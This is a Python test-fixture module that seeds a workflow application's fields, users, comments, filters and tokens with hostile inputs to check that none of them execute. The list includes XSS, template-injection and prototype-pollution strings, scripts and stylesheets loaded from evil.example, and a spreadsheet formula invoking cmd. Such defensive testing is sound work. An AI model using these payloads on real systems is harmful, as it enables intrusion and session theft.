"""What an intruder writes wherever a person may: texts that run if anything takes them for more than text."""

import json
import time
from collections.abc import Sequence
from typing import Any, Final
from urllib.parse import quote

from playwright.sync_api import APIRequestContext

TEXTS: Final = (
    "<script>__ran(0)</script>",
    "\"><script src='https://evil.example/1.js'></script>",
    "</script><script>__ran(2)</script>",
    "<img src=x onerror=__ran(3)>",
    '"><img src="https://evil.example/4.png" onload="__ran(4)">',
    "<svg/onload=__ran(5)>",
    "<svg><animate onbegin=__ran(6) attributeName=x dur=1s>",
    "<svg><script>__ran(7)</script></svg>",
    "javascript:__ran(8)//",
    "JaVaScRiPt&colon;__ran(9)",
    "java\u200bscript:__ran(10)",
    "data:text/html,<script>parent.__ran(11)</script>",
    "<iframe srcdoc='<script>parent.__ran(12)</script>'></iframe>",
    "<a href=javascript:__ran(13) autofocus onfocus=__ran(13)>here</a>",
    "[here](javascript:__ran(14)) ![x](https://evil.example/14.png)",
    "<details open ontoggle=__ran(15)>",
    "' onmouseover='__ran(16)' x='",
    "{{constructor.constructor('__ran(17)')()}}",
    "${__ran(18)} #{__ran(18)} <%= __ran(18) %>",
    "&lt;img src=x onerror=__ran(19)&gt; &#60;b&#62;",
    "\uff1cscript\uff1e__ran(20)\uff1c/script\uff1e",
    "\u202e<gpj.exe onload=__ran(21)>\u202c",
    "<style>@import 'https://evil.example/22.css';</style>",
    "<base href='https://evil.example/23/'>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=__ran(24)>",
    '=HYPERLINK("https://evil.example/25","here")+cmd|\' /C calc\'!A0',
    "<!--><img src=x onerror=__ran(26)>-->",
)
ON_ONE_LINE: Final = tuple(text for text in TEXTS if text.isprintable())[:12]
"""Some that may name what one keeps: those have to be seen."""
INTRUDER: Final = "mallory"
WATCHER: Final = "eve"
PASSWORD: Final = "known to these two alone"
KEY: Final = "hostile"
UNSOUND: Final = "hostile-draft"
LINK: Final = "javascript:__ran(100)"
HOLDS: Final = f"holds {TEXTS[3]}"
NOBODYS: Final = f"nobody's {TEXTS[5]}"
MAY_START: Final = f"start {TEXTS[7]}"
MAY_DECIDE: Final = f"decide {TEXTS[15]}"
EMAIL: Final = "<svg/onload=__ran(101)>@<img/src=x/onerror=__ran(102)>"
ATTRIBUTE: Final = f"attribute {TEXTS[12]}"
TITLED: Final = f"title of a field {TEXTS[4]}"
EXPLAINED: Final = f"words beside a field {TEXTS[6]}"
FIRST_STEP: Final = f"First {TEXTS[0]}"
NEXT_STEP: Final = f"Next {TEXTS[24]}"
WORKFLOW: Final = f"Workflow {TEXTS[2]}"
_AT_ONCE: Final = 0.0001  # hours; at the next pulse


def document() -> dict[str, Any]:
    """A process whose every free word is hostile."""
    quoted = ", ".join(json.dumps(text, ensure_ascii=False) for text in TEXTS[:20])
    return {
        "nexusflow": 1,
        "key": KEY,
        "name": WORKFLOW,
        "description": "\n".join(TEXTS),
        "create_permission": MAY_START,
        "supervisor_role": HOLDS,
        "visibility": "everyone",
        "context_schema": {
            "type": "object",
            "title": TEXTS[1],
            "description": TEXTS[2],
            "properties": {
                "text": {"type": "string", "title": TITLED, "description": EXPLAINED},
                "link": {"type": "string", "title": "Link", "format": "uri", "default": LINK},
                "choice": {"type": "string", "title": "Choice", "enum": list(TEXTS)},
                "several": {"type": "array", "title": "Several", "items": {"type": "string"}},
                TEXTS[13]: {"type": "string"},
            },
        },
        "start": "first",
        "steps": [
            _task("first", FIRST_STEP, ["approve", "reject"], form=_form()),
            _task("next", NEXT_STEP, ["approve"], supervisor_role=NOBODYS),
            {"key": "done", "name": f"Done {TEXTS[26]}", "type": "end", "status": "COMPLETED"},
            {"key": "refused", "name": f"Refused {TEXTS[22]}", "type": "end", "status": "REJECTED"},
        ],
        "transitions": [
            {
                "from": "first",
                "outcome": "approve",
                "when": f"context.text in [{quoted}]",
                "to": "next",
                "priority": 1,
            },
            {"from": "first", "outcome": "approve", "to": "done"},
            {"from": "first", "outcome": "reject", "to": "refused"},
            {"from": "next", "outcome": "approve", "to": "done"},
        ],
    }


def unsound_document() -> dict[str, Any]:
    """The same with faults, so that what is found names hostile things."""
    made = document()
    wrong = {**made["transitions"][0], "when": f"context.{TEXTS[3]}", "priority": 2}
    lost = _task("lost", f"Lost {TEXTS[4]}", ["ok"])
    return {
        **made,
        "key": UNSOUND,
        "steps": [*made["steps"], lost],
        "transitions": [*made["transitions"], wrong],
    }


def _task(key: str, name: str, outcomes: list[str], **more: Any) -> dict[str, Any]:
    return {
        "key": key,
        "name": name,
        "type": "task",
        "permission": MAY_DECIDE,
        "outcomes": outcomes,
        "sla_hours": _AT_ONCE,
        **more,
    }


def _form() -> dict[str, Any]:
    remark = {"type": "string", "title": f"Remark {TEXTS[9]}", "description": TEXTS[11]}
    return {"type": "object", "title": TEXTS[16], "properties": {"remark": remark}}


def context(number: int) -> dict[str, Any]:
    """Business data in which values and names are hostile, and try to be part of every object."""
    text = TEXTS[number % len(TEXTS)]
    return {
        "text": text,
        "link": LINK,
        "choice": text,
        "several": [*TEXTS, LINK],
        TEXTS[13]: text,
        f"within {text}": {"constructor": {"prototype": {"ran": True}}, "inner": [{text: text}]},
        "__proto__": {"ran": True, "toString": text},
    }


class Intruder:
    """Somebody who calls the API past every page."""

    def __init__(self, asking: APIRequestContext, username: str, password: str = PASSWORD) -> None:
        self._asking = asking
        login = {"username": username, "password": password}
        answer = self._send("POST", "/auth/session", form=login)
        assert answer.ok, answer.text()

    def call(self, method: str, path: str, body: Any = None) -> Any:
        """What the API answered."""
        answer = self._send(method, path, data=None if body is None else json.dumps(body))
        assert answer.ok, f"{method} {path}: {answer.status} {answer.text()}"
        return answer.json() if answer.text() else None

    def knock(self, username: str) -> None:
        """Try to log in as nobody, so that the trail has the name that was tried."""
        answer = self._send("POST", "/auth/token", form={"username": username, "password": "guessed"})
        assert answer.status == 401, answer.text()

    def _send(self, method: str, path: str, **more: Any) -> Any:
        headers = {"Sec-Fetch-Site": "same-origin"}
        if more.get("data") is not None:
            headers["Content-Type"] = "application/json"
        return self._asking.fetch(f"/api/v1{path}", method=method, headers=headers, **more)


def hire(admin: Intruder) -> None:
    """Hostile roles and permissions, the intruder who holds them, and the watcher who may see everything."""
    for name in (*(f"may {text}" for text in TEXTS), MAY_START, MAY_DECIDE):
        admin.call("POST", "/permissions", {"name": name})
    everything = [f"may {text}" for text in TEXTS] + [MAY_START, MAY_DECIDE, "sla.read"]
    admin.call("POST", "/roles", {"name": HOLDS, "permissions": everything})
    for name in (NOBODYS, *(f"role {text}" for text in TEXTS)):
        admin.call("POST", "/roles", {"name": name, "permissions": []})
    seeing = ["administrator", "auditor", "employee", HOLDS]
    for username, roles in ((INTRUDER, [HOLDS]), (WATCHER, seeing)):
        admin.call("POST", "/users", _person(username, f"{username} {TEXTS[3]}", roles))
    for number, text in enumerate(TEXTS):
        admin.call("POST", "/users", _person(f"{INTRUDER}.{number}", text, []))


def _person(username: str, name: str, roles: Sequence[str]) -> dict[str, Any]:
    return {
        "username": username,
        "name": name,
        "email": EMAIL,
        "password": PASSWORD,
        "roles": list(roles),
        "attributes": {ATTRIBUTE: TEXTS[0], "department": TEXTS[5]},
    }


def write_everywhere(intruder: Intruder, watcher: Intruder) -> dict[str, Any]:
    """Requests, comments, notes, data, names of what one keeps; the request that has most of it."""
    requests = [
        intruder.call("POST", "/requests", _asked(number, title)) for number, title in enumerate(TEXTS)
    ]
    first = requests[0]
    for text in TEXTS:
        intruder.call("POST", f"/requests/{first['id']}/comments", {"body": text})
    for request in requests[:3]:
        _decide(intruder, request, "approve")
    _decide(intruder, requests[4], "reject")
    intruder.call("POST", f"/requests/{requests[5]['id']}/withdraw", {"note": TEXTS[1]})
    intruder.knock(TEXTS[3])
    keep(watcher)
    return dict(first)


def _asked(number: int, title: str) -> dict[str, Any]:
    return {
        "workflow": KEY,
        "title": title,
        "context": context(number),
        "external_id": f"{number} {title}",
    }


def _decide(intruder: Intruder, request: dict[str, Any], outcome: str) -> None:
    body = {"outcome": outcome, "note": "\n".join(TEXTS), "data": {"remark": TEXTS[12]}}
    intruder.call("POST", f"/tasks/{request['open_tasks'][0]['id']}/complete", body)


def keep(watcher: Intruder) -> None:
    """Saved filters and tokens with hostile names."""
    filters = [
        {"room": room, "name": text[:60], "query": f"q={text}&next=javascript:__ran(103)"}
        for room in ("inbox", "requests")
        for text in ON_ONE_LINE
    ]
    settings = {"theme": "light", "language": None, "time_zone": None, "mail": "none"}
    watcher.call("PUT", "/me/preferences", {**settings, "filters": filters})
    for text in ON_ONE_LINE:
        watcher.call("POST", "/me/tokens", {"name": text, "days": 3})


def answer_alarms(watcher: Intruder, *, seconds: float = 30) -> None:
    """Once deadlines have passed: take note of an escalation and settle an incident, in hostile words."""
    title = quote(TEXTS[-1], safe="")
    [request] = watcher.call("GET", f"/requests?workflow={KEY}&q={title}")["items"]
    escalation = _await(watcher, f"/escalations?request_id={request['id']}", seconds)
    words = "\n".join(TEXTS)
    watcher.call("POST", f"/escalations/{escalation['id']}/acknowledge", {"note": words})
    incident = _await(watcher, "/incidents?resolved=false", seconds)
    watcher.call("POST", f"/incidents/{incident['id']}/resolve", {"note": words})


def _await(watcher: Intruder, path: str, seconds: float) -> dict[str, Any]:
    until = time.monotonic() + seconds
    while not (items := watcher.call("GET", path)["items"]):
        assert time.monotonic() < until, f"expected something at {path} within {seconds} s"
        time.sleep(0.2)
    return dict(items[0])
